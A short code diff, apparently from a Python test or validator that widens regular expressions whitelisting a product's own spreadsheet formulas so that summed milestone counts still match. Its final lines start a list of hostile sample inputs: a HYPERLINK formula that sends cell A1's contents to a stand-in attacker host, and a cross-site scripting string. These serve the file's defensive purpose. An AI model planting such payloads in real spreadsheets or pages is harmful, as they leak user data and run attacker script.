@@ -20,12 +20,14 @@ _HERE = (
     rf"\+\(LEFT\({_COLUMN};LEN\({_SAYS}\)\)={_SAYS}\)\)"
 )
 _ROWS = rf'\(LEN\({_COLUMN}\)=36\)\*\({_COLUMN}<>""\)'
-_OPEN = rf"FILTER\({_COLUMN};{_ROWS}\*\({_HERE}\)(\*\({_COLUMN}>14\))?\)"
+_OPEN = rf"FILTER\({_COLUMN};{_ROWS}\*\({_HERE}(\+{_HERE})*\)(\*\({_COLUMN}>14\))?\)"
 _THERE = rf"ROWS\({_COLUMN}\)(\*ROWS\({_COLUMN}\))*"
 _WAITS = rf'IF\({_THERE};IFNA\((COUNTUNIQUE|MEDIAN)\({_OPEN}\);(0|"")\)\)'
 _IN_STEP = r'IF\(NOW\(\)-[A-Z]+1>\d+/1440;"Not in step since";"In step at"\)'
-COUNTED = re.compile(rf'=IFERROR\(({_COUNT}|{_WAITS});"no column"\)|={_IN_STEP}|=TODAY\(\)-\d+')
-"""The product's own formulas."""
+COUNTED = re.compile(
+    rf'=IFERROR\(({_COUNT}(\+{_COUNT})*|{_WAITS});"no column"\)|={_IN_STEP}|=TODAY\(\)-\d+'
+)
+"""The product's own formulas; milestones of one name share a row, and are added up."""
 EVIL = [
     '=HYPERLINK("https://evil.example/?"&A1,"Sign in")',
     '<script>alert(1)</script><img src=x onerror="alert(1)">',
